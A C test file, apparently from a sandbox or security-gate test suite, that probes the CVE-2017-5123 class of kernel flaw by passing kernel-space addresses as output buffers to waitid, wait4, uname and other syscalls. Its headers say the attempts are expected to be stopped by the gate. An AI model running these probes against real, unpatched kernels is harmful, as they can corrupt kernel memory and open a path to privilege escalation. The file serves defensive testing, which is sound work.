// Has the kernel write results where no program may: addresses of the kernel's half, for every call that writes one.
// @technique T1068
// @weakness CWE-20
// @cve CVE-2017-5123
// @stopped-by gate
// @options {"policy":"compat"}
// @control none: a kernel that is not defective refuses them as well
// @attempts 30
#include <sys/times.h>
#include <sys/utsname.h>
#include <sys/sysinfo.h>
#include <time.h>

#include "../attack.h"

int main(void) {
  static const unsigned long places[] = {0xffffffff81000000, 0xffff888000000000, 0xfffffffffffff000};
  for (int i = 0; i < 3; i++) {
    void* p = (void*)places[i];
    char name[64];
#define TRY(what, call) (snprintf(name, sizeof name, "%s %lx", what, places[i]), ATTEMPT(name, call))
    pid_t child = fork();
    if (child == 0) _exit(0);
    TRY("waitid", syscall(SYS_waitid, 0, 0, p, 4 | 0x01000000, NULL));
    TRY("wait4", syscall(SYS_wait4, child, p, 0, NULL));
    waitpid(child, NULL, 0);
    TRY("uname", syscall(SYS_uname, p));
    TRY("sysinfo", syscall(SYS_sysinfo, p));
    TRY("times", syscall(SYS_times, p));
    TRY("getrlimit", syscall(SYS_getrlimit, 0, p));
    TRY("gettimeofday", syscall(SYS_gettimeofday, p, NULL));
    TRY("clock_gettime", syscall(SYS_clock_gettime, 0, p));
    TRY("getcpu", syscall(SYS_getcpu, p, p, NULL));
    TRY("getresuid", syscall(SYS_getresuid, p, p, p));
    TRY("pipe2", syscall(SYS_pipe2, p, 0));
    TRY("sigaltstack", syscall(SYS_sigaltstack, NULL, p));
    TRY("rt_sigpending", syscall(SYS_rt_sigpending, p, 8));
    TRY("sched_getaffinity", syscall(SYS_sched_getaffinity, 0, 128, p));
    TRY("arch_prctl", syscall(SYS_arch_prctl, 0x1003, p));
    TRY("prctl", syscall(SYS_prctl, PR_GET_PDEATHSIG, p, 0, 0, 0));
    TRY("get_robust_list", syscall(SYS_get_robust_list, 0, p, p));
  }
  return 0;
}
